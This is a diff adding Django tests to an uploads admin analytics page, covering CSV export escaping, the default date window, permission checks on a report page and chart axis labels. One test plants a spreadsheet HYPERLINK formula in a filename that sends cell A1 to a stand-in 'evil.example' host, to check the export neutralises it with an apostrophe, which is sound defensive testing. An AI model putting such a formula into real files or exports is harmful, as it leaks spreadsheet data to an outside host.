@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 from datetime import date
 
 import pytest
@@ -16,12 +17,17 @@ from tests.fixtures.analytics import (
     NOT_A_ZIP,
     MiB,
     analytics_uploads,
+    at,
+    make_upload,
 )
+from uploads.core.models import Upload
 from uploads.reports.analytics import Window, bucket_of, upload_section
+from uploads.reports.charts import svg
 
 pytestmark = pytest.mark.django_db
 
 PAGE = "/admin/uploads/uploadanalytics/"
+REPORT = "/admin/uploads/upload/report/"
 WINDOW = {"window": "custom", "first_day": "2026-03-02", "last_day": "2026-03-04"}
 
 
@@ -221,3 +227,59 @@ def test_staff_without_the_permission_are_refused(client, alice):
 
     alice.user_permissions.add(Permission.objects.get(codename="view_uploadanalytics"))
     assert client.get(PAGE).status_code == 200
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_start_a_formula_are_written_as_text(root, alice, start):
+    uploads = analytics_uploads(alice)
+    name = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    Upload.objects.filter(pk=uploads["big map"].pk).update(filename=name)
+
+    response = root.get(PAGE, {**WINDOW, "csv": "largest-uploads"})
+
+    table = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert table[1][0] == "'" + name  # the largest upload: the apostrophe makes it text
+    assert table[2][0] == uploads["map"].filename  # an ordinary name is left as it is
+    assert table[1][2] == "40000000"  # and numbers stay numbers
+
+
+def test_the_selector_shows_the_window_the_page_covers_when_none_is_chosen(root):
+    for query in [{}, {"purpose": "version_file"}, {"window": ""}]:
+        response = root.get(PAGE, query)
+
+        assert response.status_code == 200, query
+        window = response.context["window"]
+        assert (window.last_day - window.first_day).days == 6, query
+        page = response.content.decode()
+        assert '<option value="7" selected>Last 7 days</option>' in page, query
+        assert '<option value="1">Today</option>' in page, query
+
+
+def test_the_report_takes_the_analytics_permission_too(client, alice):
+    alice.is_staff = True
+    alice.save()
+    alice.user_permissions.add(Permission.objects.get(codename="view_upload"))
+    client.force_login(alice)
+
+    assert client.get(REPORT).status_code == 403
+    listing = client.get("/admin/uploads/upload/").content.decode()
+    assert REPORT not in listing and PAGE not in listing  # no links to pages refused
+
+    alice.user_permissions.add(Permission.objects.get(codename="view_uploadanalytics"))
+    assert client.get(REPORT).status_code == 200
+    listing = client.get("/admin/uploads/upload/").content.decode()
+    assert REPORT in listing and PAGE in listing
+
+
+def test_axis_labels_of_large_counts_are_short_enough_to_fit(alice):
+    # More than the API takes for one upload, summed over a day: the column's largest value.
+    for hour in range(10):
+        make_upload(alice, created=at(DAY_ONE, hour), state="ready", size=1,
+                    parts_retried=2**31 - 1)  # fmt: skip
+
+    trouble = figure(upload_section(Window(DAY_ONE, DAY_THREE)), "client-trouble")
+    chart = str(svg(trouble))
+
+    labels = re.findall(r'text-anchor="end">([^<]*)</text>', chart)
+    assert labels == ["0", "6.25bn", "12.5bn", "18.75bn", "25bn"]
+    assert "21,474,836,470</title>" in chart  # a point's own title keeps the exact count
